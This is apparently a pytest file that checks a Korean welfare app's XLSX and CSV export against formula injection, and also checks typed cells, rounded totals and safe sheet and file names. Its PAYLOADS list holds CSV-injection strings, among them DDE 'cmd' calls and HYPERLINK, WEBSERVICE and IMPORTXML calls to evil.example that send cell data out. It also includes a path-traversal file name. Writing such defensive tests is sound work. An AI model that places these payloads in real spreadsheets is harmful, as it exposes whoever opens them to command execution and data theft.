"""Sheets that leave the house: typed cells, totals, rounding notes, and no cell that a spreadsheet runs."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bokjihub.ui import sheets
from bokjihub.ui.sheets import Column

# Cells that once made a spreadsheet run, fetch or leak something.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"눌러 주세요")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+82 10-1234-5678",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|cmd",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    "{=1+1}",
    'a"\n=1+1',
]

TABLE = [Column("구분"), Column("건수", "count", total=True), Column("금액", "thousand", total=True)]
NAMWON = [
    ("생계지원", 266, 169_418_600),
    ("의료지원", 32, 75_980_400),
    ("주거지원", 2, 736_400),
    ("연료비 등", 136, 13_567_400),
]


def opened(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data)).active


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_xlsx_cell_is_a_formula_or_a_link(payload: str) -> None:
    data = sheets.xlsx([Column(payload)], [[payload]], title=payload, notes=[payload])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml
        assert "<f " not in xml
        assert "hyperlink" not in xml
        assert not any("externalLink" in name for name in archive.namelist())
    cells = [cell for row in opened(data).iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_starts_a_formula(payload: str) -> None:
    for cell in [cell for row in read_csv(sheets.csv_bytes([Column(payload)], [[payload]])) for cell in row]:
        assert cell.lstrip(" \u200b\ufeff")[:1] not in (*sheets.FORMULA_STARTS, "＝", "＋", "－", "＠")


@pytest.mark.slow
@given(st.text(max_size=40))
def test_any_text_survives_both_ways_out(text: str) -> None:
    kept = sheets.UNWRITABLE.sub("", text)
    written = opened(sheets.xlsx([Column("말씀")], [[text]], title="표"))["A4"].value or ""
    assert written.replace("\r\n", "\n").replace("\r", "\n") == kept.replace("\r\n", "\n").replace("\r", "\n")
    cell = read_csv(sheets.csv_bytes([Column("말씀")], [[text]]))[1][0]
    assert cell.removeprefix("'") == kept.removeprefix("'")


def test_csv_opens_in_korean_and_keeps_numbers_as_numbers() -> None:
    data = sheets.csv_bytes(TABLE, NAMWON)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines()[1] == '"생계지원",266,169419'


def test_negative_number_stays_a_number() -> None:
    assert read_csv(sheets.csv_bytes([Column("차이", "won")], [[-3000]]))[1] == ["-3000"]
    assert opened(sheets.xlsx([Column("차이", "won")], [[-3000]], title="표"))["A4"].value == -3000


def test_xlsx_cells_are_typed_and_money_stands_right() -> None:
    columns = [Column("가구"), Column("금액", "won"), Column("날", "date"), Column("때", "moment"), Column("번호")]
    moment = datetime(2026, 11, 21, 23, 5, tzinfo=UTC)
    sheet = opened(sheets.xlsx(columns, [["박*순", 212_000, date(2026, 11, 24), moment, "00123"]], title="지급"))
    assert sheet.title == "지급"
    assert [cell.value for cell in sheet[3]] == ["가구", "금액", "날", "때", "번호"]
    assert sheet["B4"].value == 212_000
    assert sheet["B4"].number_format == "#,##0"
    assert sheet["B4"].alignment.horizontal == "right"
    assert sheet["C4"].value == datetime(2026, 11, 24)  # noqa: DTZ001 -- a sheet has no zones
    assert sheet["D4"].value == datetime(2026, 11, 22, 8, 5)  # noqa: DTZ001 -- Seoul time
    assert sheet["E4"].value == "00123"
    assert sheet.freeze_panes == "A4"


def test_total_is_rounded_from_won_and_the_difference_is_told() -> None:
    sheet = opened(sheets.xlsx(TABLE, NAMWON, title="긴급복지지원 실적", notes=["기준 2016. 9. 1."]))
    lines = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=4, max_row=8)]
    assert lines[-1] == ["합계", 436, 259_703]
    assert [line[2] for line in lines[:-1]] == [169_419, 75_980, 736, 13_567]
    notes = [cell.value for row in sheet.iter_rows(min_row=9, max_col=1) for cell in row if cell.value]
    assert notes[0] == "※ 기준 2016. 9. 1."
    assert "(259,702)" in notes[1]
    assert "1천원 다릅니다(단수조정)" in notes[1]


def test_no_rounding_note_when_lines_add_up() -> None:
    assert sheets.rounding_notes(TABLE, [("가", 1, 1000), ("나", 1, 2000)]) == []


def test_empty_table_still_has_headings_and_a_total() -> None:
    sheet = opened(sheets.xlsx(TABLE, [], title="빈 표"))
    assert [cell.value for cell in sheet[3]] == ["구분", "건수", "금액"]
    assert [cell.value for cell in sheet[4]] == ["합계", 0, 0]


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match="2 cells"):
        sheets.xlsx(TABLE, [("가", 1)], title="표")


def test_too_many_rows_are_refused_in_words(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MAX_ROWS", 2)
    with pytest.raises(sheets.SheetTooLarge, match="좁혀 주세요"):
        sheets.csv_bytes([Column("가")], [["1"], ["2"], ["3"]])


def test_a_long_text_is_cut_and_says_so() -> None:
    value = opened(sheets.xlsx([Column("말씀")], [["가" * 40_000]], title="표"))["A4"].value
    assert len(value) <= sheets.MAX_CELL
    assert value.endswith("…(이하 줄임)")


@pytest.mark.parametrize(
    ("title", "name"),
    [("실적 [2016/8]", "실적  2016 8"), ("'표'", "표"), ("가" * 50, "가" * 31), ("", "표"), (":*?", "표")],
)
def test_sheet_name_is_one_excel_accepts(title: str, name: str) -> None:
    assert sheets.sheet_name(title) == name


def test_file_name_holds_no_path() -> None:
    day = date(2026, 11, 23)
    assert sheets.file_name("발굴 작업목록", "노암동", day=day, ending="xlsx") == "발굴작업목록_노암동_20261123.xlsx"
    assert "/" not in sheets.file_name("../../etc", day=day, ending="csv")
